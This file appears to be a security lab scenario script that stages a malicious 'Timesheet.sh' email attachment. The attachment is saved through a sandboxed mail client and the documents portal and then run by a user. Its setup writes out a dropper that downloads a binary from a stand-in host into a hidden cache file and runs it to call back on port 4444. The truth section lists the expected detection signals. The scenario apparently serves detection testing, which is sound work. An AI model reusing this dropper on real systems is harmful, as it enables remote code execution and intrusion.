# The sandboxed client never sees the folder: the documents portal writes there for it.
title="Attachment saved through the documents portal, run from a terminal"
what="A mail client in a sandbox (bubblewrap, with nothing of the home but its own folder, the mailbox and the documents portal) saves the attachment as Timesheet.sh below /run/user/1003/doc. xdg-document-portal, the real one over FUSE, writes it to ~/Documents. The clerk runs it with bash where the client shows it, below /run/user/1003/doc; it fetches a program from 203.0.113.66 and starts it."
host=ws3.example.org user=clerk daemons="cron sshd"
stand_ins=("/usr/lib/thunderbird/thunderbird, started in bubblewrap as flatpak does it, is a small program that reads the Maildir and saves the attachment as Thunderbird does" "lib/portal.py asks the documents portal as a file chooser's dialogue does")

setup() {
  compile thunderbird /usr/lib/thunderbird/thunderbird
  install_file "$lab/lib/portal.py" /usr/local/lib/filechooser/portal.py
  printf '#!/bin/bash\ncurl -s -o "$HOME/.cache/.ts" http://drop.example.net/ts\nchmod +x "$HOME/.cache/.ts"\n"$HOME/.cache/.ts" 203.0.113.67 4444\ntouch "$HOME/.cache/ts-done"\n' > "$base/out/Timesheet.sh"
  cc -O1 -o "$base/out/www/ts" "$lab/lib/stand-ins/beacon.c"
  install -d -o clerk -g clerk /home/clerk/.cache /home/clerk/Documents /home/clerk/.var /home/clerk/.var/app /home/clerk/.var/app/org.mozilla.Thunderbird
  mknod -m 666 "$base/dev/fuse" c 10 229
}
act() {
  user_manager clerk
  small_talk 2
  mail_in --from payroll@example.com --to clerk@example.org --subject "Timesheet" --source 203.0.113.25 --helo smtp.example.com --attach "$base/out/Timesheet.sh:text/x-shellscript"
  wait_log 'from=<payroll@example.com>'; wait_mail clerk 1; sleep 1
  desktop_as clerk DBUS_SESSION_BUS_ADDRESS=unix:path=/run/user/1003/bus -- /bin/sh -c '/usr/bin/python3 /usr/local/lib/filechooser/portal.py $HOME/Documents Timesheet.sh > $XDG_RUNTIME_DIR/chosen'; desktop_wait
  local id; id=$(cat /run/user/1003/chosen)
  desktop_as clerk -- /usr/bin/bwrap --ro-bind /usr /usr --ro-bind /etc /etc --symlink usr/lib /lib --symlink usr/lib64 /lib64 --symlink usr/bin /bin --proc /proc --dev /dev --tmpfs /home \
    --dir /home/clerk --bind /home/clerk/Maildir /home/clerk/Maildir --bind /home/clerk/.var/app/org.mozilla.Thunderbird /home/clerk/.var/app/org.mozilla.Thunderbird \
    --bind /run/user/1003/doc /run/user/1003/doc --symlink "/run/user/1003/doc/$id" /home/clerk/chosen --chdir /home/clerk --unshare-pid --unshare-ipc \
    /usr/lib/thunderbird/thunderbird --save Timesheet.sh chosen; desktop_wait
  sleep 2
  ssh_as clerk <<L
ls -l Documents
bash /run/user/1003/doc/$id/Timesheet.sh
L
  wait_file /home/clerk/.cache/ts-done 10
  small_talk 1
  user_managers_down
}
truth() {
  mail_step deliver 'to=<clerk@example.org>.*status=sent' 'the message is delivered'
  exec_step sandbox 'bwrap .*thunderbird --save Timesheet.sh' 'the client runs in a sandbox'
  exec_step execute 'bash /run/user/1003/doc/[0-9a-f]+/Timesheet.sh' 'the document is run'
  net_step fetch 'curl 203.0.113.66:80' 'it fetches a program'
  net_step beacon '203.0.113.67:4444' 'which calls out'
}
